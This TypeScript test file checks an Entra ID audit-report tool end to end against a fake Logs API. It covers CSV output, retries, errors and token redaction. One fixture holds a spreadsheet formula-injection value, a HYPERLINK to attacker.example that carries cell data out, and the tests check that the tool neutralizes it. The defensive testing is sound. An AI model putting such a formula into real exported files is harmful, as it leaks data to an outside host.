/**
 * `npm run audit-report` end to end, in-process, against the fake Logs API on 127.0.0.1 (HTTPS with
 * the test CA), with a fixed clock and an injected credential.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { KPIS } from '../../../scripts/lib/audit-report/kpis';
import { makeTestCertificates, type TestCertificates } from '../verify/support/tls';
import { type FakeLogs, startFakeLogs } from './support/fake-logs';
import { FAKE_TOKEN, makeWorkspace, removeWorkspaces, runReport, sampleAnswers, STACK, WORKSPACE_GUID } from './support/harness';

let tls: TestCertificates;
let fake: FakeLogs;

beforeAll(async () => {
  tls = makeTestCertificates();
  fake = await startFakeLogs(tls);
});

afterAll(async () => {
  await fake?.close();
  tls?.cleanup();
  removeWorkspaces();
});

beforeEach(() => {
  fake.answers = sampleAnswers();
  fake.requests.length = 0;
});

const files = (dir: string): string[] => (existsSync(dir) ? readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name).slice(dir.length + 1)).sort() : []);

describe('npm run audit-report against a local Logs API', () => {
  test('writes the summary, the charts and one CSV per KPI; KPIs on unrouted tables are listed as not included', async () => {
    const ws = makeWorkspace();
    const run = await runReport(fake, ws, { ca: tls.caPem });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(files(run.out)).toEqual([
      '.audit-report.json',
      'charts/failed-sign-ins-by-country.svg',
      'charts/sign-in-success-rate.svg',
      'charts/top-privileged-actions.svg',
      'consent-grants.csv',
      'credential-changes.csv',
      'failed-sign-ins-by-country.csv',
      'sign-in-success-rate.csv',
      'summary.md',
      'top-privileged-actions.csv',
    ]);
    const summary = readFileSync(join(run.out, 'summary.md'), 'utf8');
    expect(summary).toContain('# Entra ID audit report: contoso-prod\n');
    expect(summary).toContain('| Window | 2026-10-24T08:00:00.000Z to 2026-11-23T08:00:00.000Z (P30D) |');
    expect(summary).toContain(`| Workspace | \`${WORKSPACE_GUID}\` |`);
    const days = (sampleAnswers()['sign-in-success-rate'] as unknown as { rows: number[][] }).rows;
    const total = days.reduce((t, d) => t + (d[1] as number), 0);
    const ok = days.reduce((t, d) => t + (d[2] as number), 0);
    expect(summary).toContain(`| Sign-in success rate | ${((100 * ok) / total).toFixed(2)} % of ${total.toLocaleString('en-US')} interactive sign-ins |`);
    expect(summary).toContain('| Sign-in success rate | 96.46 % of 51,885 interactive sign-ins |');
    expect(summary).toContain('| Failed sign-ins | 1,520 from 8 countries or regions |');
    expect(summary).toContain('| Privileged actions | 65 by 4 actors |');
    expect(summary).toContain('| Consent grants | 4 |');
    expect(summary).toContain('| Risky users | not available (see below) |');
    expect(summary).toContain('![Sign-in success rate per day](charts/sign-in-success-rate.svg)');
    expect(summary).toContain('First 10 of 31 rows; all of them in [sign-in-success-rate.csv](sign-in-success-rate.csv).');
    expect(summary).toMatch(/## Not in this report\n\n- Risky users: the stack does not route AADRiskyUsers to the workspace\.\n$/);
    // Untrusted names cannot add markup to the summary.
    expect(summary).toContain('| 2026-10-30T11:15:00.000Z | Consent to application | zoë.ångström@contoso.example | Contoso &lt;Expenses&gt; \\| \\*beta\\* | success |');
    expect(run.stdout).toContain('Sign-in success rate: 96.46 % of 51,885 interactive sign-ins');
    expect(run.stdout).toContain(`wrote 9 file(s) to ${run.out}`);
  });

  test('every KPI query that runs goes to the workspace with the window as timespan, a bearer token and the server timeout', async () => {
    const ws = makeWorkspace();
    await runReport(fake, ws, { ca: tls.caPem, args: ['--since', 'P7D'] });
    expect(fake.requests.map((r) => r.kpi)).toEqual(['sign-in-success-rate', 'failed-sign-ins-by-country', 'top-privileged-actions', 'consent-grants', 'credential-changes']);
    for (const r of fake.requests) {
      expect(r).toMatchObject({ workspaceId: WORKSPACE_GUID, bearer: true, timespan: '2026-11-16T08:00:00.000Z/2026-11-23T08:00:00.000Z', prefer: expect.stringContaining('wait=180') });
      expect(r.query).toBe(KPIS.find((k) => k.key === r.kpi)!.query);
    }
  });

  test('the CSVs: UTF-8 with BOM, header row, CRLF, RFC 4180 quoting, formula-like text neutralized, numbers as numbers', async () => {
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem });
    const consent = readFileSync(join(run.out, 'consent-grants.csv'), 'utf8');
    expect(consent.split('\r\n')).toEqual([
      '\ufeffTimeGenerated,Activity,Actor,Application,Result',
      '2026-11-19T13:30:02.000Z,Consent to application,alex@contoso.example,"Payroll, ""EU"" edition",success',
      `2026-11-12T07:41:20.000Z,Add delegated permission grant,alex@contoso.example,"'=HYPERLINK(""https://attacker.example/?d=""&A1,""Open"")",success`,
      "2026-11-03T18:02:47.000Z,Add app role assignment to service principal,ci-deployer,'@SUM(1+1),failure",
      '2026-10-30T11:15:00.000Z,Consent to application,zoë.ångström@contoso.example,Contoso <Expenses> | *beta*,success',
      '',
    ]);
    expect(readFileSync(join(run.out, 'credential-changes.csv'), 'utf8')).toContain(",alex@contoso.example,'-2+3,success\r\n");
    const rates = readFileSync(join(run.out, 'sign-in-success-rate.csv'), 'utf8').split('\r\n');
    expect(rates[0]).toBe('\ufeffDay,SignIns,Succeeded,Failed,SuccessRatePercent');
    expect(rates[1]).toBe('2026-10-24T00:00:00.000Z,1800,1770,30,98.33');
    expect(rates).toHaveLength(33);
  });

  test('--format json writes report.json only; --format md without csv links no CSV', async () => {
    const json = await runReport(fake, makeWorkspace(), { ca: tls.caPem, args: ['--format', 'json'] });
    expect(files(json.out)).toEqual(['.audit-report.json', 'report.json']);
    const report = JSON.parse(readFileSync(join(json.out, 'report.json'), 'utf8'));
    expect(report).toMatchObject({ schemaVersion: 1, tool: 'entra-audit-report', stack: STACK, since: 'P30D', workspaceId: WORKSPACE_GUID });
    expect(report.kpis.map((k: { key: string; status: string }) => [k.key, k.status])).toEqual(KPIS.map((k) => [k.key, k.key === 'risky-users' ? 'skipped' : 'ok']));
    const md = await runReport(fake, makeWorkspace(), { ca: tls.caPem, args: ['--format', 'md'] });
    expect(files(md.out).filter((f) => f.endsWith('.csv'))).toEqual([]);
    expect(readFileSync(join(md.out, 'summary.md'), 'utf8')).not.toContain('.csv');
  });

  test('a stack that routes the risk tables gets the risky-users KPI', async () => {
    fake.answers = {
      ...sampleAnswers(),
      'risky-users': {
        kind: 'table',
        columns: [{ name: 'UserPrincipalName', type: 'string' }, { name: 'RiskLevel', type: 'string' }, { name: 'RiskState', type: 'string' }, { name: 'RiskDetail', type: 'string' }, { name: 'LastUpdated', type: 'datetime' }],
        rows: [['a@contoso.example', 'high', 'atRisk', 'none', '2026-11-22T00:00:00Z'], ['b@contoso.example', 'medium', 'atRisk', 'none', '2026-11-21T00:00:00Z']],
      },
    };
    const run = await runReport(fake, makeWorkspace(['AuditLogs', 'SignInLogs', 'RiskyUsers']), { ca: tls.caPem });
    expect(run.code).toBe(0);
    expect(readFileSync(join(run.out, 'summary.md'), 'utf8')).toContain('| Risky users | 2 (1 at high risk) |');
    expect(files(run.out)).toContain('risky-users.csv');
  });

  test('a partial answer (a table not created yet) keeps its rows and says so; a full list says it may be cut', async () => {
    const kpi = KPIS.find((k) => k.key === 'consent-grants')!;
    fake.answers = {
      ...sampleAnswers(),
      'credential-changes': { kind: 'table', columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Activity', type: 'string' }, { name: 'Actor', type: 'string' }, { name: 'Target', type: 'string' }, { name: 'Result', type: 'string' }], rows: [], partialError: { code: 'PartialError', message: "'union' operator: Failed to resolve table expression named 'AuditLogs'" } },
      'consent-grants': { kind: 'table', columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Activity', type: 'string' }, { name: 'Actor', type: 'string' }, { name: 'Application', type: 'string' }, { name: 'Result', type: 'string' }], rows: Array.from({ length: kpi.maxRows }, () => ['2026-11-01T00:00:00Z', 'Consent to application', 'a', 'b', 'success']) },
    };
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem });
    expect(run.code).toBe(0);
    const summary = readFileSync(join(run.out, 'summary.md'), 'utf8');
    expect(summary).toContain("> The query partly failed: 'union' operator: Failed to resolve table expression named 'AuditLogs'");
    expect(summary).toContain('| Consent grants | 5,000 (at least: the list reached its limit) |');
    expect(summary).toContain("First 10 of 5,000 rows (the query's limit: there may be more)");
  });

  test('429 with Retry-After is retried after the wait the server asked for', async () => {
    fake.answers = { ...sampleAnswers(), 'sign-in-success-rate': [{ kind: 'raw', status: 429, body: { error: { code: 'ThrottledError', message: 'throttled' } }, headers: { 'retry-after': '7' } }, sampleAnswers()['sign-in-success-rate']!] };
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem });
    expect(run.code).toBe(0);
    expect(run.sleeps).toEqual([7000]);
    expect(fake.requests.filter((r) => r.kpi === 'sign-in-success-rate')).toHaveLength(2);
  });

  test('fails with exit 2, naming the role, and writes nothing when the workspace refuses (403)', async () => {
    fake.answers = { 'sign-in-success-rate': { kind: 'raw', status: 403, body: { error: { code: 'InsufficientAccessError', message: 'The provided credentials have insufficient access to perform the requested operation' } } } };
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem });
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/^audit-report: PermissionDenied: permission denied \(403\): .*insufficient access.*; the identity running the report needs Log Analytics Reader on the workspace/);
    expect(files(run.out)).toEqual([]);
    expect(run.stdout).toBe('');
  });

  test('fails with exit 2 on an answer without the expected columns', async () => {
    fake.answers = { ...sampleAnswers(), 'failed-sign-ins-by-country': { kind: 'table', columns: [{ name: 'Country', type: 'string' }], rows: [['DE']] } };
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem });
    expect(run.code).toBe(2);
    expect(run.stderr).toBe('audit-report: MalformedResponse: the answer to KPI failed-sign-ins-by-country has no column FailedSignIns (columns: Country)\n');
  });

  test('fails with exit 2 on more rows than the query takes, and on a value of the wrong type', async () => {
    const kpi = KPIS.find((k) => k.key === 'credential-changes')!;
    const columns = [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Activity', type: 'string' }, { name: 'Actor', type: 'string' }, { name: 'Target', type: 'string' }, { name: 'Result', type: 'string' }];
    fake.answers = { ...sampleAnswers(), 'credential-changes': { kind: 'table', columns, rows: Array.from({ length: kpi.maxRows + 1 }, () => ['2026-11-01T00:00:00Z', 'a', 'b', 'c', 'd']) } };
    expect((await runReport(fake, makeWorkspace(), { ca: tls.caPem })).stderr).toBe('audit-report: MalformedResponse: the answer to KPI credential-changes has 5001 rows; its query takes at most 5000\n');
    fake.answers = { ...sampleAnswers(), 'failed-sign-ins-by-country': { kind: 'table', columns: [{ name: 'Country', type: 'string' }, { name: 'FailedSignIns', type: 'string' }, { name: 'Accounts', type: 'long' }], rows: [['DE', 'many', 1]] } };
    expect((await runReport(fake, makeWorkspace(), { ca: tls.caPem })).stderr).toBe('audit-report: MalformedResponse: KPI failed-sign-ins-by-country, row 1, column FailedSignIns: not a number: "many"\n');
  });

  test('fails with exit 2 on an HTML page instead of the API, naming the flag to check', async () => {
    fake.answers = { 'sign-in-success-rate': { kind: 'html' } };
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem });
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/^audit-report: UnexpectedAnswer: Log Analytics answered HTTP 200 with text\/html from https:\/\/127\.0\.0\.1:\d+; this does not look like the Log Analytics API: check --logs-endpoint and --cloud\n$/);
  });

  test('a query that gets no answer is cut off at its own deadline (exit 2); one that outlives --timeout ends with exit 3', async () => {
    fake.answers = { 'sign-in-success-rate': { kind: 'hang' } };
    const slow = await runReport(fake, makeWorkspace(), { ca: tls.caPem, requestTimeoutMs: 100 });
    expect(slow.code).toBe(2);
    expect(slow.stderr).toMatch(/^audit-report: RequestTimeout: no answer to the request to query KPI sign-in-success-rate within 0\.1 s/);
    const timeout = await runReport(fake, makeWorkspace(), { ca: tls.caPem, args: ['--timeout', 'PT0.1S'] });
    expect(timeout.code).toBe(3);
    expect(timeout.stderr).toBe('audit-report: Timeout: --timeout PT0.1S ran out while waiting for the answer to query KPI sign-in-success-rate; raise --timeout\n');
    expect(files(timeout.out)).toEqual([]);
  });

  test('an answer larger than the limit is not read', async () => {
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem, maxResponseBytes: 1024 });
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/^audit-report: ResponseTooLarge: Log Analytics announced an answer of \d+ KiB from https:\/\/127\.0\.0\.1:\d+; the limit is 1 KiB/);
  });

  test('the access token is never printed, even when the service echoes it', async () => {
    fake.answers = { 'sign-in-success-rate': { kind: 'raw', status: 400, body: { error: { code: 'BadArgumentError', message: `bad token ${FAKE_TOKEN}` } } } };
    const run = await runReport(fake, makeWorkspace(), { ca: tls.caPem });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('bad token [redacted]');
    expect(run.stderr).not.toContain(FAKE_TOKEN);
  });

  test('configuration problems: no synthesized stack, no workspace routing, no workspace id', async () => {
    const ws = makeWorkspace();
    const missing = await runReport(fake, ws, { ca: tls.caPem, args: ['--stack', 'other-stack'] });
    expect(missing.stderr).toMatch(/^audit-report: SynthMissing: .*other-stack\/cdk\.tf\.json not found; run `npm run synth` first/);
    const noLa = makeWorkspace();
    const synth = JSON.parse(readFileSync(join(noLa.dir, 'cdktf.out', 'stacks', STACK, 'cdk.tf.json'), 'utf8'));
    delete synth.resource.azurerm_monitor_aad_diagnostic_setting.EntraDiagnosticSettings_Setting_0A1B2C3D.log_analytics_workspace_id;
    writeFileSync(join(noLa.dir, 'cdktf.out', 'stacks', STACK, 'cdk.tf.json'), JSON.stringify(synth));
    expect((await runReport(fake, noLa, { ca: tls.caPem })).stderr).toBe(`audit-report: NoWorkspace: stack ${STACK} routes no Entra category to Log Analytics, and the report reads the workspace; enable logAnalytics and route categories to it\n`);
    const noId = makeWorkspace();
    writeFileSync(noId.outputsFile, JSON.stringify({ tenant_id: { value: 'x' } }));
    expect((await runReport(fake, noId, { ca: tls.caPem })).stderr).toBe('audit-report: MissingLocation: the workspace GUID is unknown: the output log_analytics_workspace_id is missing; pass --workspace-id <guid>\n');
    const flag = await runReport(fake, noId, { ca: tls.caPem, args: ['--workspace-id', WORKSPACE_GUID] });
    expect(flag.code).toBe(0);
    expect(fake.requests.length).toBeGreaterThan(0);
    expect(fake.requests.every((r) => r.workspaceId === WORKSPACE_GUID)).toBe(true);
    expect(missing.code).toBe(2);
  });

  test('a second run into the same directory replaces its own files and removes those it no longer writes', async () => {
    const ws = makeWorkspace();
    const first = await runReport(fake, ws, { ca: tls.caPem });
    expect(files(first.out)).toContain('consent-grants.csv');
    writeFileSync(join(first.out, 'notes.txt'), 'mine');
    const second = await runReport(fake, ws, { ca: tls.caPem, args: ['--format', 'md'] });
    expect(second.code).toBe(0);
    expect(files(second.out)).toEqual(['.audit-report.json', 'charts/failed-sign-ins-by-country.svg', 'charts/sign-in-success-rate.svg', 'charts/top-privileged-actions.svg', 'notes.txt', 'summary.md']);
    expect(readFileSync(join(second.out, 'notes.txt'), 'utf8')).toBe('mine');
  });

  test('refuses to overwrite a file it did not write, naming it, and writes nothing', async () => {
    const ws = makeWorkspace();
    const first = await runReport(fake, ws, { ca: tls.caPem, args: ['--format', 'json'] });
    writeFileSync(join(first.out, 'summary.md'), 'the auditor\'s own notes');
    const run = await runReport(fake, ws, { ca: tls.caPem });
    expect(run.code).toBe(2);
    expect(run.stderr).toBe(`audit-report: OutputRefused: --out ${first.out} holds files this tool did not write, which it would overwrite: summary.md (not written by audit-report); choose an empty or new directory, or move them\n`);
    expect(readFileSync(join(first.out, 'summary.md'), 'utf8')).toBe('the auditor\'s own notes');
    expect(files(first.out)).toEqual(['.audit-report.json', 'report.json', 'summary.md']);
  });
});
